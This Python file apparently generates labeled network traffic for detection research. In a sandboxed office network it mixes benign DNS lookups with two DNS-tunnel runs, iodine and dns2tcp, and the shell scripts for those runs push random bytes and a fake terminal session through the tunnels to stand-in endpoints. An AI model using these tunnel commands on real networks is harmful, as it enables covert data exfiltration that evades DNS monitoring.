# SPDX-License-Identifier: BSD-3-Clause
"""Tunnels through DNS (iodine, dns2tcp), and a resolver whose users ask for long and many names in good faith."""

import os
import time

import network


class Resolver:
    """A resolver of the office (dnsmasq, which forwards) and the servers that know the names (dnsmasq elsewhere)."""

    def __init__(self, stage):
        self.stage = stage
        net, pick = stage.net, stage.pick
        self.upstream, self.tunnels = pick('198.51.100.53', '192.0.2.53'), pick(('203.0.113.5', '203.0.113.6'), ('198.51.100.5', '198.51.100.6'))
        self.domains = pick(('t.example', 'x2.test'), ('cdn7.example', 'z.test'))
        net.add_host('dns', 53, 'resolver (dnsmasq)')
        for number, name in enumerate(('victim0', 'victim1', 'user', 'mail', 'scanner')):
            net.add_host(name, 101 + number, {'mail': 'mail server: asks lists of spammers', 'scanner': 'checks files by name lookups',
                                              'user': 'browses'}.get(name, 'infected: tunnels'))
        net.add_outsider('names', self.upstream, '2001:db8:f00d::53')
        for number, address in enumerate(self.tunnels):
            net.add_outsider(f'end{number}', address, f'2001:db8:f00e::{number + 1}')
        common = ('--keep-in-foreground', '--no-resolv', '--no-hosts', '--conf-file=/dev/null', '--user=root', '--pid-file=')
        net.serve('names', 'dnsmasq', *common, '--address=/cdn.example/198.18.7.9', '--address=/www.example/198.18.7.10',
                  '--address=/list.example/127.0.0.2', '--address=/hash.example/127.0.0.4', '--local=/example/', '--local=/in-addr.arpa/')
        net.serve('dns', 'dnsmasq', *common, *(f'--server=/{domain}/{address}' for domain, address in zip(self.domains, self.tunnels)),
                  f'--server={self.upstream}', '--cache-size=400')
        network.run('mount', '--bind', stage.write('resolv.conf', f'nameserver {net.address(53)}\n'), '/etc/resolv.conf')

    def ask(self, host, name, kind='A'):
        network.attempt(host, 'dig', '+tries=1', '+time=2', '+nocookie', name, kind)

    # ---------------------------------------------------------------- in good faith

    def browse(self, seconds):
        """Pages load from content networks, whose host names are long and made by machines."""
        rng, end = self.stage.rng, time.monotonic() + seconds
        while time.monotonic() < end:
            code = ''.join(rng.choices('abcdefghijklmnopqrstuvwxyz0123456789', k=rng.randrange(8, 20)))
            name = rng.choice((f'e{rng.randrange(9999)}.dsc{rng.choice("abcdg")}.edgekey.net.globalredir.cdn.example',
                               f'video-{code}.r{rng.randrange(9)}---sn-{code[:8]}.c.media.cdn.example', f'{code}.cloudfront.cdn.example',
                               f'prod-{rng.choice(("eu", "us"))}-west-{rng.randrange(3)}-elb-{code}.lb.cdn.example',
                               f'www{rng.randrange(40)}.www.example'))
            for kind in ('A', 'AAAA'):
                self.ask('user', name, kind)
            time.sleep(rng.uniform(0, 1.2))

    def check_mail(self, seconds):
        """A mail server looks addresses up: in lists of spammers and backwards."""
        rng, end = self.stage.rng, time.monotonic() + seconds
        while time.monotonic() < end:
            parts = [str(rng.randrange(1, 255)) for _ in range(4)]
            self.ask('mail', '.'.join(parts) + '.zen.list.example')
            self.ask('mail', '.'.join(parts) + '.in-addr.arpa', 'PTR')
            time.sleep(rng.uniform(0.5, 3))

    def check_files(self, seconds):
        """A virus scanner asks whether the hash of a file is known."""
        rng, end = self.stage.rng, time.monotonic() + seconds
        while time.monotonic() < end:
            self.ask('scanner', ''.join(rng.choices('0123456789abcdef', k=32)) + '.malware.hash.example', 'A')
            time.sleep(rng.uniform(2, 8))

    # ---------------------------------------------------------------- tunnels

    def iodine(self):
        """Pings and files through an IP tunnel."""
        stage, net, domain = self.stage, self.stage.net, self.domains[0]
        net.serve('end0', 'iodined', '-f', '-c', '-P', 'secret', '172.30.9.1/28', domain)
        time.sleep(2)
        script = (f'iodine -f -P secret {" ".join(stage.pick(("-T", "TXT", "-r"), ("-T", "CNAME", "-r", "-M", "180")))} {net.address(53)} {domain} & '
                  f'sleep 9; ping -n -c {stage.pick(20, 15)} -i {stage.pick("0.5", "1.2")} -s {stage.pick(200, 90)} 172.30.9.1; '
                  f'for i in $(seq {stage.pick(12, 9)}); do head -c {stage.pick(700, 400)} /dev/urandom >/dev/udp/172.30.9.1/9; sleep {stage.pick(1, 2)}; done; '
                  f'sleep {stage.pick(15, 25)}; kill %1; wait')
        stage.attack('victim0', ('bash', '-c', script), 'dns-tunnel', stage.pick('TXT', 'CNAME'), 17, net.address(101), net.address(53),
                     statuses=range(256), ports=[53], tool='iodine', via=net.address(53), domain=domain)

    def dns2tcp(self):
        """A terminal through a TCP tunnel."""
        stage, net, domain = self.stage, self.stage.net, self.domains[1]
        server = stage.write('dns2tcpd.conf', f'listen = 0.0.0.0\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = {domain}\n'
                             'resources = echo:127.0.0.1:7007\n')
        client = stage.write('dns2tcp.conf', f'domain = {domain}\nresource = echo\nlocal_port = 7070\ndebug_level = 1\nserver = {net.address(53)}\n')
        net.serve('end1', '/usr/bin/python3', '-c', 'import socketserver\nclass H(socketserver.StreamRequestHandler):\n'
                  '   def handle(self):\n      for line in self.rfile: self.wfile.write(line.upper() * 3)\n'
                  'socketserver.ThreadingTCPServer(("127.0.0.1", 7007), H).serve_forever()')
        net.serve('end1', 'dns2tcpd', '-F', '-f', server)
        time.sleep(2)
        line = 'drwxr-xr-x 2 root root 4096 report and some other words of a terminal'
        script = (f'dns2tcpc -c -f {client} -r echo -l 7070 -T {stage.pick("TXT", "KEY")} -z {domain} {net.address(53)} & sleep 4; exec 3<>/dev/tcp/127.0.0.1/7070; '
                  f'for i in $(seq {stage.pick(40, 25)}); do echo "$i $RANDOM {line}" >&3; sleep {stage.pick("0.8", "2")}; done; kill %1; wait')
        stage.attack('victim1', ('bash', '-c', script), 'dns-tunnel', stage.pick('TXT', 'KEY'), 17, net.address(102), net.address(53),
                     statuses=range(256), ports=[53], tool='dns2tcp', via=net.address(53), domain=domain)


def names(stage, path):
    """Two tunnels through the resolver of an office, one after the other. Beside them a browser that meets content networks, a mail
    server that asks lists of spammers, a virus scanner that asks for hashes."""
    resolver = Resolver(stage)
    network.sysctl('victim0', 'net.ipv6.conf.all.disable_ipv6=1')
    network.inside('end1', 'ip', 'link', 'set', 'lo', 'up')
    seconds = stage.pick(170, 200)
    os.makedirs('/dev/net', exist_ok=True)
    stage.begin(path)
    for function in resolver.browse, resolver.check_mail, resolver.check_files:
        stage.beside(function, seconds)
    time.sleep(15)
    resolver.iodine()
    time.sleep(10)
    resolver.dns2tcp()
